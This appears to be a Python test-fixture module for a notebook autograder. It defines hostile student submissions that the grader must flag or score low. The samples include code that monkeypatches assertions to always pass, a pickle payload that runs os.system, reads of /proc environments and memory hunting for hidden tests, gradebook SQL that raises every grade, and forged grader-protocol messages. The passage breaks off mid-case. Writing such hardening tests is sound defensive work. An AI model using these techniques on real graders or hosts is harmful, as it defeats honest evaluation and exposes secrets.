"""Hostile and broken submissions of a tiny assignment, each with what must become of it.

A case is one student. Most have a wrong ``double`` and a right ``mean_and_width``, so that the honest part earns
4 of 8 points; a case that destroys its own kernel earns less. Cases are run by ``test_hostile.py``.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import pickle
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from coursetools import HEADER

NAME = "tiny"
SOURCE = (
    HEADER
    + """
# A tiny assignment

**Points** 10, of which 8 are graded by machine.

```{code-cell} ipython3
import math

import torch
```

## Task 1: twice as much (4 points)

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: false, solution: true, locked: false, task: false, grade_id: double}
---
def double(x):
    ### BEGIN SOLUTION
    twice_as_much = torch.add(x, x)
    return twice_as_much
    ### END SOLUTION
```

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: true, solution: false, locked: true, task: false, grade_id: double-visible, \
points: 1}
---
def check_double():
    got = double(torch.tensor([1.0, -2.5]))
    kind = type(got).__name__
    assert isinstance(got, torch.Tensor), f"return a tensor, not a {kind}"
    assert got.tolist() == [2.0, -5.0], f"2 and -5 are asked; you return {got}"
    print("Task 1: the visible check passes.")


check_double()
```

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: true, solution: false, locked: true, task: false, grade_id: double-hidden, \
points: 3}
---
# Hidden tests run here when your notebook is graded.
### BEGIN HIDDEN TESTS
def hidden_double():
    secret_of_double = torch.randn(7, dtype=torch.float64) + 3
    expected = secret_of_double + secret_of_double
    got = double(secret_of_double.clone())
    assert isinstance(got, torch.Tensor), "a tensor is asked"
    assert got.dtype == torch.float64, "the type of numbers changes"
    torch.testing.assert_close(got, expected, msg="the values are wrong")
    assert torch.allclose(got, expected), "the values are wrong"
    assert torch.equal(got, expected), "the values are wrong"
    ours = torch.distributions.Normal(expected, 1.0)
    theirs = torch.distributions.Normal(got, 1.0)
    distance = torch.distributions.kl_divergence(ours, theirs)
    assert abs(float(distance.sum())) < 1e-9, "the values are wrong"


hidden_double()
### END HIDDEN TESTS
```

## Task 2: measure a function (4 points)

`mean_and_width(f, n)` measures `f` at 0, ..., `n - 1` and returns the mean and the width, each as a `float`.

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: false, solution: true, locked: false, task: false, grade_id: mean-and-width}
---
def mean_and_width(f, n):
    ### BEGIN SOLUTION
    measured_values = [f(i) for i in range(n)]
    width = max(measured_values) - min(measured_values)
    return sum(measured_values) / n, width
    ### END SOLUTION
```

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: true, solution: false, locked: true, task: false, grade_id: width-visible, \
points: 1}
---
def check_width():
    mean, width = mean_and_width(lambda i: i * i, 3)
    assert abs(width - 4) < 1e-9, f"the width is 4; you return {width}"
    assert abs(mean - 5 / 3) < 1e-9, f"the mean is 5 / 3; you return {mean}"
    print("Task 2: the visible check passes.")


check_width()
```

```{code-cell} ipython3
---
nbgrader: {schema_version: 3, grade: true, solution: false, locked: true, task: false, grade_id: width-hidden, \
points: 3}
---
# Hidden tests run here when your notebook is graded.
### BEGIN HIDDEN TESTS
def hidden_width():
    import random

    source = random.SystemRandom()
    secret_of_width = [source.uniform(-5, 5) for _ in range(6)]
    result = mean_and_width(lambda i: secret_of_width[i], 6)
    assert isinstance(result, tuple) and len(result) == 2, "a pair is asked"
    assert all(isinstance(part, float) for part in result), "floats are asked"
    mean, width = result
    expected = math.fsum(secret_of_width) / 6
    assert math.isclose(mean, expected, abs_tol=1e-9), "the mean is wrong"
    expected = max(secret_of_width) - min(secret_of_width)
    assert math.isclose(width, expected, abs_tol=1e-9), "the width is wrong"


hidden_width()
### END HIDDEN TESTS
```

+++ {"nbgrader": {"schema_version": 3, "grade": false, "solution": false, "locked": true, "task": false, \
"grade_id": "words-question"}}

## Task 3: say why (2 points)

=== BEGIN MARK SCHEME ===
One point for the secret of marking, one for naming the rule behind it.
=== END MARK SCHEME ===

+++ {"nbgrader": {"schema_version": 3, "grade": true, "solution": true, "locked": false, "task": false, \
"grade_id": "words", "points": 2}}

The sample answer, which nobody but the instructor may read.
"""
)
SECRETS = (
    *("twice_as_much", "measured_values", "secret_of_double", "secret_of_width", "hidden_double", "hidden_width"),
    *("BEGIN HIDDEN", "BEGIN SOLUTION", "BEGIN MARK", "secret of marking", "The sample answer"),
)
"""Words that stand in the instructor's secret lines and nowhere else."""
OTHERS_WORDS = "My own words, which no other student may read."
RIGHT = "def double(x):\n    return x + x"
WRONG = "def double(x):\n    return x + 1"
WIDTH = (
    "def mean_and_width(f, n):\n    values = [f(i) for i in range(n)]\n"
    "    return sum(values) / n, max(values) - min(values)"
)
HALF = "def mean_and_width(f, n):\n    values = [f(i) for i in range(n)]\n    return sum(values) / n, max(values)"
MARKER = 31_536_123
"""Orphans that attackers leave sleep for so many seconds, so that they can be found."""


@dataclass(frozen=True)
class Case:
    """One hostile or broken submission, and what must become of it."""

    name: str
    score: float | None = 4.0
    """Points that the machine gives; None where it never graded."""
    status: str = "graded"
    why: str = ""
    """A part of what the status says."""
    first: str = ""
    """The source of a cell before all others."""
    double: str = WRONG
    width: str = WIDTH
    between: str = ""
    """The source of a cell after the tests of ``double``."""
    last: str = ""
    words: str | None = None
    change: Callable[[dict], dict | str | bytes | None] | None = None
    """Changes the notebook's JSON; returns what is handed in; None for what it changed in place."""
    files: dict[str, str | bytes] = field(default_factory=dict)
    place: Callable[[Path, Path], None] | None = None
    """Does what it likes with the folder handed in; its second argument is the course."""
    student: str = ""
    """The student's id, by default the case's name."""

    @property
    def who(self) -> str:
        return self.student or self.name


CASES: list[Case] = []


def case(name: str, **fields: Any) -> None:
    CASES.append(Case(name, **fields))


def hand_in(case: Case, released: dict, course: Path) -> None:
    """Hand in the case's notebook and files."""
    notebook = copy.deepcopy(released)
    cells = {grade_id(cell): cell for cell in notebook["cells"]}
    cells["double"]["source"], cells["mean-and-width"]["source"] = case.double, case.width
    if case.words is not None:
        cells["words"]["source"] = case.words
    place = next(i for i, cell in enumerate(notebook["cells"]) if grade_id(cell) == "double-hidden") + 1
    for position, source in ((len(notebook["cells"]), case.last), (place, case.between), (0, case.first)):
        if source:
            notebook["cells"].insert(position, code(source.replace("COURSE", str(course))))
    changed = case.change(notebook) if case.change else None
    content = notebook if changed is None else changed
    if isinstance(content, dict):
        content = json.dumps(content)
    folder = course / "grading" / "submitted" / case.who / NAME
    folder.mkdir(parents=True)
    (folder / f"{NAME}.ipynb").write_bytes(content if isinstance(content, bytes) else content.encode())
    for file, data in case.files.items():
        (folder / file).parent.mkdir(parents=True, exist_ok=True)
        (folder / file).write_bytes(data if isinstance(data, bytes) else data.encode())
    if case.place:
        case.place(folder, course)


def grade_id(cell: dict) -> str | None:
    return cell["metadata"].get("nbgrader", {}).get("grade_id")


def code(source: str, **metadata: Any) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": metadata, "outputs": [], "source": source}


def cell(notebook: dict, name: str) -> dict:
    return next(c for c in notebook["cells"] if grade_id(c) == name)


# ---- Honest students, some with odd names -------------------------------------------------------------------------

HONEST = [
    Case("right", 8.0, double=RIGHT, words=OTHERS_WORDS),
    Case("half", 5.0, double=RIGHT, width=HALF, words=OTHERS_WORDS),
    Case("blank", 0.0, double="def double(x):\n    raise NotImplementedError", width="# nothing yet"),
    Case("brackets", 8.0, double=RIGHT, student="[a-c]*"),
    Case("quotes", 8.0, double=RIGHT, student="O\"Hara's; DROP TABLE"),
    Case("unicode", 8.0, double=RIGHT, student="Jörg 🐙 Ωmega"),
    Case("long", 8.0, double=RIGHT, student="x" * 100),
    Case("braces", 8.0, double=RIGHT, student="{student_id}%s-rf"),
]


# ---- Broken notebooks ---------------------------------------------------------------------------------------------


def _copies(*names: str) -> Callable:
    def change(notebook: dict) -> None:
        for name in names:
            place = notebook["cells"].index(cell(notebook, name))
            notebook["cells"].insert(place + 1, copy.deepcopy(notebook["cells"][place]))

    return change


def _split(notebook: dict) -> None:
    place = notebook["cells"].index(cell(notebook, "mean-and-width"))
    first, second = notebook["cells"][place], copy.deepcopy(notebook["cells"][place])
    first["source"], second["source"] = "import math", WIDTH
    notebook["cells"].insert(place + 1, second)


def _with(name: str, **fields: Any) -> Callable:
    def change(notebook: dict) -> None:
        cell(notebook, name).update(fields)

    return change


def _nbgrader(name: str, **fields: Any) -> Callable:
    def change(notebook: dict) -> None:
        cell(notebook, name)["metadata"]["nbgrader"].update(fields)

    return change


def _all(action: Callable[[dict], Any]) -> Callable:
    def change(notebook: dict) -> None:
        for each in notebook["cells"]:
            action(each)

    return change


def _without(*names: str) -> Callable:
    def change(notebook: dict) -> None:
        notebook["cells"] = [c for c in notebook["cells"] if grade_id(c) not in names]

    return change


def _appended(*cells: Any) -> Callable:
    def change(notebook: dict) -> None:
        notebook["cells"] += cells

    return change


def _old_format(notebook: dict) -> dict:
    cells = [
        {**c, "input": c["source"], "language": "python", "collapsed": False, "prompt_number": None}
        if c["cell_type"] == "code"
        else c
        for c in notebook["cells"]
    ]
    for c in cells:
        c.pop("id", None)
        c.pop("source" if "input" in c else "", None)
        c.pop("execution_count", None)
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}


def _renumbered(number: Any) -> Callable:
    return lambda notebook: notebook.update(nbformat=number)


def _edited(notebook: dict) -> None:
    for name in ("double-visible", "double-hidden"):
        cell(notebook, name)["source"] = "assert True"
        cell(notebook, name)["metadata"]["nbgrader"].update(points=100, locked=False)
        cell(notebook, name)["metadata"]["tags"] = ["raises-exception", "skip-execution"]


def _swapped(notebook: dict) -> None:
    """The answer says that it is the hidden test, and the other way round."""
    one, other = cell(notebook, "double"), cell(notebook, "double-hidden")
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]
    one["id"], other["id"] = other["id"], one["id"]


def _reversed(notebook: dict) -> None:
    notebook["cells"] = [*notebook["cells"][:2], *reversed(notebook["cells"][2:])]


def _pickles(notebook: dict) -> None:
    class Bomb:
        def __reduce__(self) -> tuple:
            return os.system, (f"sleep {MARKER}",)

    data = base64.b64encode(pickle.dumps(Bomb())).decode()
    for each in notebook["cells"]:
        each["metadata"] |= {"pickle": data, "coursekit": {"flags": []}, "coursekit_ran": True}
        if each["cell_type"] == "code":
            bundle = {"application/x-python-pickle": data, "text/plain": "1000"}
            each["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "data": bundle, "metadata": {}}]
    notebook["metadata"] |= {"coursekit": {"flags": [], "seconds": {"cells": -1e9}}, "pickle": data}


def _deep(text: str, depth: int = 100_000) -> str:
    return text.replace('"DEEP"', "[" * depth + "]" * depth)


def _deep_metadata(notebook: dict) -> str:
    notebook["metadata"]["deep"] = "DEEP"
    return _deep(json.dumps(notebook))


def _twice_the_keys(notebook: dict) -> str:
    return '{"cells": [], "nbformat": 3, "metadata": 1, ' + json.dumps(notebook)[1:]


def _link(name: str, target: str) -> Callable:
    def place(folder: Path, course: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target.replace("COURSE", str(course)))

    return place


def _large(folder: Path, course: Path) -> None:
    os.truncate(folder / f"{NAME}.ipynb", 100 * 10**6)


def _many_files(folder: Path, course: Path) -> None:
    for number in range(10_000):
        (folder / f"file{number}").touch()


def _special_files(folder: Path, course: Path) -> None:
    os.mkfifo(folder / "pipe")
    (folder / "gradebook.db").symlink_to("../../../gradebook.db")
    (folder / "loop").symlink_to("loop")
    (folder / "up").symlink_to(course)


def _folder_instead(folder: Path, course: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"{NAME}.ipynb").mkdir()


def _renamed(name: str) -> Callable:
    def place(folder: Path, course: Path) -> None:
        (folder / f"{NAME}.ipynb").rename(folder / name)

    return place


case("copied-cells", change=_copies("double", "double-hidden", "words"), status="flagged", why="more than once")
case("split-cell", change=_split, status="flagged", why="more than once")
case("odd-schema-version", change=_nbgrader("double", schema_version=99))
case("empty-file", change=lambda nb: b"", score=None, status="failed", why="empty")
case("cut-off", change=lambda nb: json.dumps(nb)[:2000], score=None, status="failed", why="cut off")
case("not-a-notebook", change=lambda nb: "[1, 2]", score=None, status="failed", why="not a notebook")
case("utf-16", change=lambda nb: json.dumps(nb).encode("utf-16"), score=None, status="failed", why="UTF-8")
case("lone-surrogates", change=_with("words", source="\ud800 words"))
case("renamed", place=_renamed("my work (1).ipynb"), status="flagged", why="handed in as")
case("old-format", change=_old_format)
case("names-lost", change=_all(lambda c: c["metadata"].clear()), status="flagged", why="restored")
case(
    "all-names-lost",
    change=_all(lambda c: (c["metadata"].clear(), c.pop("id", 0))),
    score=None,
    status="failed",
    why="not the notebook of this assignment",
)
case("tests-deleted", change=_without("double-visible", "double-hidden", "width-hidden"))
case("answer-deleted", change=_without("double"), status="flagged", why="was deleted")
case("tests-edited", change=_edited)
case("cells-swapped", change=_swapped)
case("cells-reversed", change=_reversed, score=0.0)
case(
    "a-test-of-my-own",
    change=_appended(
        code(
            "",
            nbgrader={
                "grade_id": "bonus",
                "grade": True,
                "points": 100,
                "schema_version": 3,
                "solution": False,
                "locked": False,
                "task": False,
            },
        )
    ),
    status="flagged",
    why="bonus",
)
case("other-kernel", change=lambda nb: nb["metadata"].update(kernelspec={"name": "evil", "display_name": "x"}))
case("source-of-numbers", change=_with("double", source=[1, None, {}]), status="flagged", why="damaged")
case("cells-of-nothing", change=_appended(None, 7, [], {}, {"cell_type": "code"}), status="flagged", why="damaged")
case("answer-as-markdown", change=_with("double", cell_type="markdown"))
case("deep-metadata", change=_deep_metadata, score=None, status="failed", why="nested too deeply")
case("keys-twice", change=_twice_the_keys)
case("pickles", change=_pickles)
case(
    "thousands-of-cells",
    change=_appended(*[code("pass")] * 100, *[{"cell_type": "markdown", "metadata": {}, "source": "x"}] * 4500),
)
case(
    "link",
    place=_link(f"{NAME}.ipynb", "COURSE/_build/source/tiny/tiny.ipynb"),
    score=None,
    status="failed",
    why="is a link",
)
case("large", place=_large, score=None, status="failed", why="100 MB")
case("many-files", place=_many_files, score=None, status="failed", why="more than 1000 files")
case("special-files", place=_special_files, status="flagged", why="a link")
case("folder-instead", place=_folder_instead, score=None, status="failed", why="is a folder")
case("same-name-other-case", files={"TINY.ipynb": "{}", "Tiny.ipynb": "garbage"})


# ---- Patching what the tests use ----------------------------------------------------------------------------------

PATCHES = {
    "torch.allclose": "import torch\ntorch.allclose = lambda *a, **k: True",
    "torch.equal": "import torch\ntorch.equal = torch.Tensor.equal = lambda *a, **k: True",
    "assert_close": "import torch\ntorch.testing.assert_close = lambda *a, **k: None",
    "kl_divergence": "import torch\ntorch.distributions.kl_divergence = lambda p, q: torch.zeros(1)\n"
    "torch.distributions.kl.kl_divergence = torch.distributions.kl_divergence",
    "tensor-eq": "import torch\ntorch.Tensor.__eq__ = lambda a, b: True\ntorch.Tensor.tolist = lambda t: [2.0, -5.0]",
    "builtins": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
    "builtins.all = lambda x: True\nclass Never(Exception): pass\nbuiltins.AssertionError = Never",
    "do-execute": """
kernel = get_ipython().kernel
async def do_execute(code, silent=False, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute""",
    "transformers": "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
    "get_ipython().input_transformers_post.append(lambda lines: [])\nget_ipython().ast_transformers.append(None)",
    "display-hook": """
import sys
def hook(value):
    from IPython.display import publish_display_data
    publish_display_data({"text/plain": "3.0"})
sys.displayhook = hook
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "3.0"}, {})
get_ipython().events.register("post_run_cell", lambda *a: hook(3.0))""",
    "modules-replaced": """
import sys, types
class Anything(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in list(sys.modules):
    if name.startswith(("torch.testing", "torch.distributions")):
        sys.modules[name] = Anything(name)""",
    "import-hook": """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        print("asked for", name)
        return None
sys.meta_path.insert(0, Finder())
sys.path.insert(0, ".")""",
    "settrace": """
import sys
def trace(frame, event, argument):
    for name, value in frame.f_locals.items():
        if event == "call" and "hidden" in str(frame.f_code.co_name) + str(name):
            print("LOOT", frame.f_code.co_name, value)
    return trace
sys.settrace(trace); sys.setprofile(trace)""",
    "peer-replaced": """
import coursekit.bridge as bridge
Real = bridge.Peer
class Liar(Real):
    def _pack(self, value, parcel):
        return True if not parcel.answering else super()._pack(value, parcel)
    def _answer(self, message, tensors, frame): return 1.0
    def _same(self, *a): return True
bridge.Peer = Liar
bridge.same = lambda a, b: True""",
    "module-main": """
import __main__
class Everything(dict):
    def __missing__(self, name): return lambda *a, **k: True
__main__.__dict__.update({n: (lambda *a, **k: None) for n in
    ("check_double", "hidden_double", "check_width", "hidden_width", "assert_close", "isinstance")})""",
}
BREAKS_ITS_KERNEL = ("builtins", "do-execute", "transformers")
for name, source in PATCHES.items():
    if name in BREAKS_ITS_KERNEL:
        case(f"patches-{name}", first=source, score=0.0, status="flagged", why="kernel")
    else:
        case(f"patches-{name}", first=source, last=source, score=0.0 if name == "peer-replaced" else 4.0)

OWN_MODULES = {
    "torch.py": "def __getattr__(name): return lambda *a, **k: True",
    "math.py": "def isclose(*a, **k): return True\ndef fsum(x): return 0",
    "random.py": "class SystemRandom:\n    def uniform(self, a, b): return 0.0",
    "coursekit.py": "raise SystemExit",
    "coursekit/__init__.py": "raise SystemExit",
    "sitecustomize.py": "import builtins; builtins.abs = lambda x: 0",
    "usercustomize.py": "import builtins; builtins.abs = lambda x: 0",
    "conftest.py": "raise SystemExit",
    "nbgrader_config.py": "c.ExecuteApart.sandboxed = False\nc.Autograde.autograde_preprocessors = []",
    "matplotlibrc": "backend: module://evil",
    "gradebook.db": b"SQLite format 3\0",
    ".coursekit": "x",
    "timestamp.txt": "1999-01-01 00:00:00 UTC",
}
case("ships-modules", files={k: v for k, v in OWN_MODULES.items() if k != "coursekit.py"})
case("ships-coursekit", files={"coursekit.py": OWN_MODULES["coursekit.py"]}, first="import coursekit; coursekit.bank")
case(
    "ships-startup",
    files={
        ".ipython/profile_default/startup/0.py": "import os; os._exit(1)",
        ".pdbrc": "q",
        ".scratch/profile_default/startup/0.py": "import os; os._exit(1)",
    },
    score=0.0,
    status="flagged",
    why="ended before it was ready",
)

# ---- What a function may return ------------------------------------------------------------------------------------

RETURNS = {
    "equal-to-all": "class E:\n    __eq__ = lambda s, o: True\n    __hash__ = None\n    dtype = torch.float64\n"
    "    def tolist(s): return [2.0, -5.0]\ndef double(x): return E()",
    "anything": "class A:\n    def __getattr__(s, n): return lambda *a, **k: s\n    def __float__(s): return 0.0\n"
    "    def __bool__(s): return True\n    def __call__(s, *a): return s\ndef double(x): return A()",
    "false-class": "class C:\n    __class__ = torch.Tensor\n    dtype = torch.float64\n"
    "    def tolist(s): return [2.0, -5.0]\ndef double(x): return C()",
    "torch-function": "class F:\n    @classmethod\n    def __torch_function__(c, f, t, a=(), k=None): return True\n"
    "def double(x): return F()",
    "tensor-subclass": "class T(torch.Tensor):\n    @classmethod\n"
    "    def __torch_function__(c, f, t, a=(), k=None): return True\n    def tolist(s): return [2.0, -5.0]\n"
    "def double(x): return (x + 1).as_subclass(T)",
    "generator": "def double(x): yield x + x",
    "claimed-10-gb": "def double(x): return torch.empty(1, dtype=x.dtype).expand(1_400_000_000)",
    "meta": "def double(x): return torch.empty(10**12, dtype=x.dtype, device='meta')",
    "argument-changed": "def double(x):\n    x.zero_()\n    return x",
    "argument-resized": "def double(x):\n    x.resize_(0)\n    x.set_(torch.empty(0, dtype=x.dtype))\n    return x",
    "a-module": "class D(torch.nn.Module):\n    def forward(s, x): return x + 1\ndouble = D()",
    "endless-list": "def double(x):\n    a = []\n    a.append(a)\n    return a",
    "deep-list": "def double(x):\n    a = []\n    for _ in range(100_000): a = [a]\n    return a",
    "stop-iteration": "def double(x): raise StopIteration",
    "system-exit": "def double(x): raise SystemExit(0)",
    "bridge-error": "from coursekit.bridge import BridgeError\ndef double(x): raise BridgeError('x')",
}
for name, source in RETURNS.items():
    case(f"returns-{name}", double=source)
NUMBERS = {
    "float-subclass": "class N(float):\n    __sub__ = __rsub__ = lambda s, o: 0.0\n    __abs__ = lambda s: 0.0\n"
    "    __lt__ = __gt__ = __eq__ = lambda s, o: True\ndef mean_and_width(f, n): return N(1.0), N(1.0)",
    "tuple-subclass": "class P(tuple):\n    __iter__ = lambda s: iter([0.0, 0.0])\n"
    "def mean_and_width(f, n): return P((1.0, 1.0))",
    "liar": "class L:\n    __sub__ = __rsub__ = lambda s, o: 0.0\n    __float__ = lambda s: 0.0\n"
    "    __index__ = lambda s: 0\ndef mean_and_width(f, n): return L(), L()",
    "prints-a-number": "def mean_and_width(f, n):\n    print(4.0)\n    display(4.0)\n    return 4.0",
}
for name, source in NUMBERS.items():
    case(f"returns-{name}-for-numbers", double=RIGHT, width=source)
case("lambda", double="double = lambda x: x + x", score=8.0)
case("missing-function", double="def twice(x): return x + x")
case("renamed-function", double="def _double(x): return x + x\n__all__ = ['double']")
case("displays-a-number", double=f"{WRONG}\nprint(100.0)\n100.0", last="display(8.0)\n8.0")
case(
    "sees-the-test",
    score=8.0,  # what it computes, it computes right
    double="import sys, inspect\ndef double(x):\n    tested = any('bridge' in f.filename for f in inspect.stack())\n"
    "    return x + x if tested and 'coursekit.bridge' in sys.modules else x",
)
case(
    "makes-the-visible-check-fail",
    # The check's own names must not be looked up in the notebook when the check did not get to define them.
    first="check_width = check_double = hidden_width = lambda *a, **k: None",
)

# ---- Reading what is secret ---------------------------------------------------------------------------------------

LOOK = """
import glob, os, time
def show(what):
    print("LOOT", repr(what)[:20000])
def read(path):
    try:
        with open(path, "rb") as file: show(file.read(200_000))
    except OSError as error: show(error)
"""
READS = {
    "solutions": "for p in glob.glob('COURSE/**/*', recursive=True): read(p)\nshow(os.walk('COURSE'))\n"
    "for d in ('COURSE', 'COURSE/..', '..', '../../..', '/home', '/root'):\n"
    "    end = time.monotonic() + 1\n    for w, _, names in os.walk(d):\n        if time.monotonic() > end: break\n"
    "        show((w, names))\n        for n in names[:100]:\n"
    "            if n.endswith(('.ipynb', '.db', '.md', '.csv', '.json')): read(os.path.join(w, n))",
    "gradebook": "import sqlite3\ntry:\n    d = sqlite3.connect('COURSE/grading/gradebook.db')\n"
    "    d.execute('BEGIN EXCLUSIVE')\n    show(d.execute('select source from source_cell').fetchall())\n"
    "    d.execute('update grade set manual_score = 100')\n    d.commit()\nexcept Exception as e: show(e)",
    "nbgrader": "try:\n    from nbgrader.api import Gradebook\n"
    "    with Gradebook('sqlite:///COURSE/grading/gradebook.db') as b: show([c.source for c in b.students])\n"
    "except BaseException as e: show(type(e))",
    "history": "show(In); show(globals().get('_ih')); show(globals().get('_i1'))\n"
    "show(list(get_ipython().history_manager.get_range()))\nshow(get_ipython().kernel.get_parent())\n%history -g",
    "objects": "import gc, re\nfor o in gc.get_objects():\n    try:\n"
    "        t = str(o) if isinstance(o, (dict, list, tuple)) and len(o) < 50 else ''\n"
    "    except BaseException: continue\n"
    "    if re.search('secre[t]_of|hidde[n]_do|twic[e]_as', t): show(t)",
    "files-here": "for p in glob.glob('**', recursive=True) + glob.glob('.*') + glob.glob('../*'): read(p)\n"
    "for p in glob.glob('/tmp/*') + glob.glob(os.environ['HOME'] + '/../**', recursive=True): read(p)",
    "proc": "for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'): read(p)\n"
    "for p in glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/cwd') + glob.glob('/proc/*/root'):\n"
    "    try: show(os.readlink(p))\n    except OSError: pass\n"
    "for n in range(3, 30):\n    try: show(os.pread(n, 1000, 0))\n    except OSError: pass",
    "memory": "import re\nfor line in open('/proc/self/maps'):\n"
    "    m = re.match(r'(\\w+)-(\\w+) rw', line)\n    if not m: continue\n    a, b = (int(x, 16) for x in m.groups())\n"
    "    try:\n        with open('/proc/self/mem', 'rb') as f:\n            f.seek(a); d = f.read(min(b - a, 10**8))\n"
    "    except (OSError, ValueError, MemoryError): continue\n"
    "    for m in re.finditer(rb'(secre[t]_of|hidde[n]_width|measure[d]_values)', d):\n"
    "        show(d[m.start() - 50:m.end() + 500].decode('latin1'))",
}
for name, source in READS.items():
    case(f"reads-{name}", last=LOOK + source, status="" if name in ("memory", "nbgrader") else "graded")
case(
    "reads-frames",
    width="import sys, inspect\n"
    + LOOK
    + WIDTH.replace(
        "    return",
        """
    frame = sys._getframe()
    while frame:
        show([frame.f_code, {k: str(v)[:300] for k, v in {**frame.f_globals, **frame.f_locals}.items()}])
        frame = frame.f_back
    for name in ("__globals__", "__closure__", "__code__", "__defaults__", "__wrapped__", "_peer", "_number"):
        try: show(getattr(f, name))
        except Exception as e: show(e)
    return""",
    ),
)
case(
    "writes-gradebook",
    first="import os, shutil, pathlib\n"
    "for p in ('COURSE/grading/gradebook.db', 'COURSE/solutions/tiny/tiny.md', 'COURSE/nbgrader_config.py'):\n"
    "    for act in (lambda: open(p, 'ab').write(b'x'), lambda: os.truncate(p, 0), lambda: os.unlink(p),\n"
    "                lambda: os.chmod(p, 0o777)):\n        try: act(); print('LOOT did', p)\n"
    "        except OSError as e: print(e)",
)

# ---- The bridge ---------------------------------------------------------------------------------------------------

RAW = """
import json, os, struct, threading, time
import coursekit.bridge as bridge

def peer():
    return next(iter(bridge._attached.values()))

def raw(header, body=b"", length=None):
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    length = len(data) if length is None else length
    peer().connection.send_bytes(length.to_bytes(8, "little") + data + body)

def message(**fields):
    return {"changed": [], "records": None, "mirrors": [], "globals": {}, "released": [], "tensors": [], **fields}

def ask(op, *operands):
    raw(message(op=op, operands={"tuple": list(operands)}))
    data = peer().connection.recv_bytes()
    place = 8 + int.from_bytes(data[:8], "little")
    return json.loads(data[8:place])

"""
FORGED = {
    "value": "raw(message(value=True))",
    "yours": "raw(message(value={'yours': 1}))\nraw(message(value={'yours': 99999}))",
    "twice": "raw(message(value=1.0)); raw(message(value=2.0)); raw(message(value=3.0))",
    "huge-header": "raw(b'{}', length=2**62)",
    "negative-shape": "n = 2**22\nshapes = [['torch.uint8', n], ['torch.uint8', -n]] * 20000\n"
    "raw(message(value=1, tensors=shapes), bytes(n))",
    "many-lists": "raw(b'[' + b'[],' * 60_000_000 + b'[]]')",
    "deep-json": "raw(b'[' * 5_000_000)",
    "no-fields": "raw(b'{}')",
    "cut-off": "os.write(peer().connection.fileno(), struct.pack('!i', 1000) + b'short')\nthreading.Event().wait()",
    "closed": "peer().connection.close()",
    "pause": "raw(message(op='pause', operands={'tuple': []}))",
    "bad-numpy-position": "keys = [1] * 624\nraw(message(value=1.0, "
    "globals={'numpy': ['MT19937', keys, 2_000_000_000, 0, 0.0]}))",
    "mirrors": "raw(message(value={'mirror': [True, 1, True, None, None]}, mirrors=[[True, n, None, 'none', True, "
    "True] for n in range(50)], released=[[k, n] for k in ('object', 'mirror', 'record', 'x') for n in range(50)]))",
    "changed": "raw(message(value={'back': 0}, tensors=[['torch.float64', 7]], changed=[[0, 0, False]]), bytes(56))",
}
for name, source in FORGED.items():
    lines = source.replace("\n", "\n    ")
    case(
        f"forges-{name}",
        double=f"{RAW}def double(x):\n    {lines}\n    return x + 1",
        score=0.0,
        status="" if name == "yours" else "flagged",
    )
case(
    "asks-the-examiner",
    double=RAW
    + LOOK
    + """
def double(x):
    for op, operands in [
        ("names", ()), ("lookup", ("hidden_double",)), ("assign", ("double", 1)), ("delete", ("torch",)),
        ("builtin", ("repr", {"back": 0})), ("fetch", (1,)), ("describe", (1,)), ("backward", (1, [])),
        ("exit", ()), ("notebook", ()), ("set", ({"back": 0}, "data", 1)),
        *[(op, ({"yours": n}, name)) for n in range(1, 9) for op in ("get", "method")
          for name in ("__globals__", "__class__", "__code__", "__self__", "_peer", "mro")],
        *[("call", ({"yours": n}, {"tuple": []}, {"dict": []})) for n in range(1, 9)],
    ]:
        show((op, ask(op, *operands)))
    return x + 1
""",
)
case(
    "asks-of-a-function",
    width=RAW
    + LOOK
    + """
def mean_and_width(f, n):
    for name in ("__globals__", "__closure__", "__code__", "__class__", "__defaults__", "__self__", "__dict__"):
        for op in ("get", "method", "set", "builtin", "describe", "deepcopy"):
            operands = ({"yours": f._number}, name, {"tuple": []}, {"dict": []})
            show((name, op, ask(op, *operands[: 2 if op == "get" else 1 if op in ("describe", "deepcopy") else 3])))
    values = [f(i) for i in range(n)]
    return sum(values) / n, max(values) - min(values)
""",
)
case(
    "sets-generators",
    double="import random, torch, numpy\ndef double(x):\n"
    "    torch.manual_seed(0); random.seed(0); numpy.random.seed(0)\n"
    "    torch.set_grad_enabled(False); torch.set_default_dtype(torch.float16)\n    return x + 1",
)
case(
    "thread-uses-the-bridge",
    first=RAW
    + """
def later():
    while True:
        time.sleep(0.01)
        try:
            p = peer()
            p.thread = threading.get_ident()
            p.ask("names"); raw(message(value=2.0))
        except BaseException: pass
threading.Thread(target=later, daemon=False).start()
threading.Thread(target=later, daemon=True).start()
""",
    score=None,
    status="",
)
case(
    "connects-first",
    first="import glob, os, socket, threading\n"
    "from ipykernel.kernelapp import IPKernelApp\np = IPKernelApp.instance().abs_connection_file\nkept = []\n"
    "for _ in range(1):\n    s = socket.socket(socket.AF_UNIX)\n"
    "    s.connect(os.path.dirname(p) + '/tests'); s.send(b'\\0\\0\\0\\x14' + b'x' * 20)\n    kept.append(s)",
    score=0.0,
    status="flagged",
)

# ---- The kernel, and what talks to it ------------------------------------------------------------------------------

case(
    "floods-replies",
    first="""
kernel = get_ipython().kernel
ident = kernel._parent_ident["shell"]
while True:
